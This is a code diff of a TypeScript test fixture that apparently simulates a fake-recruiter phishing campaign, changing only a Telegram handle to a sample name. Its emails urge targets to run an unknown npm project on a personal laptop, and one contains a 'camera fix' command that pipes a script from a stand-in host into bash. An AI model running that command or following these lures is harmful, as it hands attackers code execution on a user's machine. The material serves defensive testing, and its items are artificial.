@@ -5,7 +5,7 @@ const story = "recruiter";
 const lena = "Lena Roth <lena.roth@meridian-talent.example>";
 
 const offer = (name: string, link: string) =>
-  `Hi ${name},\n\nI am Lena, a recruiter for Meridian Labs. We have a remote position for a senior engineer, with a salary of 240k. As part of the technical interview, download our project, run npm install and npm start on your personal laptop, and send me a screenshot as soon as possible, before our call:\n\n${link}\n\nPlease contact me on Telegram: https://t.me/lena_meridian\n\nLena Roth, Meridian Labs`;
+  `Hi ${name},\n\nI am Lena, a recruiter for Meridian Labs. We have a remote position for a senior engineer, with a salary of 240k. As part of the technical interview, download our project, run npm install and npm start on your personal laptop, and send me a screenshot as soon as possible, before our call:\n\n${link}\n\nPlease contact me on Telegram: https://t.me/lena_meridian_sample\n\nLena Roth, Meridian Labs`;
 
 const readme =
   "# Meridian dashboard\n\n1. Open this folder in VS Code.\n2. Run `npm install` and `npm start`.\n3. Fix the filter of the table. Please send us a screenshot.\n";
@@ -78,7 +78,7 @@ export const recruiterCampaign: readonly SampleArrival[] = [
       from: lena,
       to: "mira",
       subject: "Re: Senior engineer at Meridian Labs",
-      text: "Hi Mira,\n\nyour camera did not work in our call because its driver is too old. Please open Terminal, paste this line and press Enter, then join again within ten minutes:\n\ncurl -s https://cdn.meridian-talent.example/camera/fix.sh | bash\n\nLena Roth, Meridian Labs\nhttps://t.me/lena_meridian",
+      text: "Hi Mira,\n\nyour camera did not work in our call because its driver is too old. Please open Terminal, paste this line and press Enter, then join again within ten minutes:\n\ncurl -s https://cdn.meridian-talent.example/camera/fix.sh | bash\n\nLena Roth, Meridian Labs\nhttps://t.me/lena_meridian_sample",
     },
   ),
   writeMail(
@@ -88,7 +88,7 @@ export const recruiterCampaign: readonly SampleArrival[] = [
       from: "Daniel Haas <daniel.haas@meridian-talent.example>",
       to: "jobs",
       subject: "Candidate for your opening",
-      text: "Good day,\n\nwe present a candidate for the position of a senior engineer. Before the interview, download his project and run npm install and npm start on your own laptop, as soon as possible:\n\nhttps://files.meridian-talent.example/portfolio/haas.zip\n\nPlease contact his manager on Telegram: https://t.me/lena_meridian\n\nDaniel Haas, Meridian Labs",
+      text: "Good day,\n\nwe present a candidate for the position of a senior engineer. Before the interview, download his project and run npm install and npm start on your own laptop, as soon as possible:\n\nhttps://files.meridian-talent.example/portfolio/haas.zip\n\nPlease contact his manager on Telegram: https://t.me/lena_meridian_sample\n\nDaniel Haas, Meridian Labs",
     },
   ),
   writeProject({ day: 5, time: "11:49", story, expects: "stop" }, "haas-portfolio.zip", {
